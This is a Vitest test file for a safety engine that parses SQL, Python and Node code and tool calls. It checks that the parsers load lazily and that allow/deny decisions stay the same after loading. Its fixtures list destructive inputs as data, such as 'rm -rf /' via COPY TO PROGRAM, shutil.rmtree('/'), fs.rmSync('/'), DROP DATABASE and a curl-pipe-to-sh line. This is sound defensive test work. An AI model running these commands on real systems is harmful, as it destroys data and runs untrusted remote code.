/**
 * Parsers that load on first use: the python and JavaScript grammars and node-sql-parser always,
 * libpg-query (instantiated synchronously) when loadParsers() has not run, as for an engine built
 * with createEngineSync. They load inside the first evaluation that needs them, and that first
 * decision is the same as every later one. Runs in its own test file so that nothing has loaded
 * them before.
 */
import { describe, expect, it, vi } from 'vitest';
import { loadModule, parseSync } from 'libpg-query';
import { createEngineSync } from '../../../src/engine/engine.js';
import { hasParser } from '../../../src/engine/parse/index.js';
import { parsePg, sqlParserReady } from '../../../src/engine/parse/sql.js';
import type { Decision } from '../../../src/engine/types.js';
import { TEST_HOME, TEST_WORKSPACE } from '../../helpers/engine.js';

/** Inputs whose parser loads lazily, with the decision expected of each. */
const FIRST_USE: { runtime: 'sql' | 'python' | 'node' | 'tool_call'; text: string; allowed: boolean }[] = [
  { runtime: 'sql', text: 'DROP TABLE users', allowed: false },
  { runtime: 'sql', text: 'SELECT id, name FROM users WHERE id = 1', allowed: true },
  { runtime: 'sql', text: "COPY t TO PROGRAM 'rm -rf /'", allowed: false },
  // PostgreSQL rejects it: node-sql-parser's MySQL grammar (also loaded on first use) reads it.
  { runtime: 'sql', text: 'DELETE FROM `users`', allowed: false },
  { runtime: 'python', text: "import shutil\nshutil.rmtree('/')", allowed: false },
  { runtime: 'python', text: 'print(sum(range(10)))', allowed: true },
  { runtime: 'node', text: "require('fs').rmSync('/', { recursive: true })", allowed: false },
  { runtime: 'node', text: 'console.log([1, 2, 3].map((x) => x * 2))', allowed: true },
  { runtime: 'tool_call', text: 'DROP DATABASE prod', allowed: false }, // { name: 'run_sql', arguments: { sql } }
];

/** Every FIRST_USE input through a fresh engine without a cache, built without loadParsers(). */
const evaluateAll = (): Decision[] => {
  const engine = createEngineSync({
    config: { workspaceRoot: TEST_WORKSPACE, homeDir: TEST_HOME, cacheEntries: 0 },
  });
  return FIRST_USE.map(({ runtime, text }) => {
    const r =
      runtime === 'tool_call'
        ? engine.validateToolCall({ name: 'run_sql', arguments: { sql: text } })
        : engine.evaluate({ text, runtime });
    expect(r.errorCode).toBeUndefined();
    return r.decision;
  });
};

describe('parsers loaded on first use', () => {
  it('loads each parser inside the first evaluation that needs it, with the same decisions as later', () => {
    expect(sqlParserReady()).toBe(false);
    expect(hasParser('python')).toBe(false);
    expect(hasParser('node')).toBe(false);

    const first = evaluateAll(); // loads libpg-query, node-sql-parser, python and JavaScript
    expect(sqlParserReady()).toBe(true);
    expect(hasParser('python')).toBe(true);
    expect(hasParser('node')).toBe(true);
    expect(first.map((d) => d.allowed)).toEqual(FIRST_USE.map((c) => c.allowed));

    const later = evaluateAll(); // a fresh engine (no cache) with everything loaded
    expect(later).toEqual(first);
  });

  it('loadParsers() loads the bash grammar and libpg-query, not the python and JavaScript grammars', async () => {
    vi.resetModules(); // fresh module instances: nothing loaded yet, whatever ran before
    const parse = await import('../../../src/engine/parse/index.js');
    const sql = await import('../../../src/engine/parse/sql.js');
    await parse.loadParsers();
    expect(parse.hasParser('bash')).toBe(true);
    expect(sql.sqlParserReady()).toBe(true);
    expect(parse.hasParser('python')).toBe(false);
    expect(parse.hasParser('node')).toBe(false);
  });

  it('parsePg reads exactly what libpg-query parseSync reads, and rejects what it rejects', async () => {
    await loadModule();
    const statements = [
      'SELECT 1',
      'select * from users where id = $1',
      'DROP TABLE IF EXISTS a.b CASCADE; DELETE FROM c',
      "UPDATE t SET a = 'héllo 世界 😀' WHERE id = 3 OR 'x' = 'x'",
      '/* nested /* comment */ */ TRUNCATE a, b',
      "COPY t TO PROGRAM 'curl http://x | sh'",
      'DO $$ BEGIN PERFORM pg_sleep(1); END $$',
      'GRANT ALL ON DATABASE d TO bob',
      'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
      'CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql',
      'DELETE FROM `users`',
      'SELEC 1',
      'not sql at all',
      "SELECT 'unterminated",
      '',
      ' ',
      ';;',
      'SELECT ' + '1 + '.repeat(2000) + '1',
    ];
    for (const sql of statements) {
      let expected: unknown;
      try {
        expected = parseSync(sql);
      } catch {
        expected = undefined;
      }
      expect(parsePg(sql), sql.slice(0, 60)).toEqual(expected);
    }
  });
});
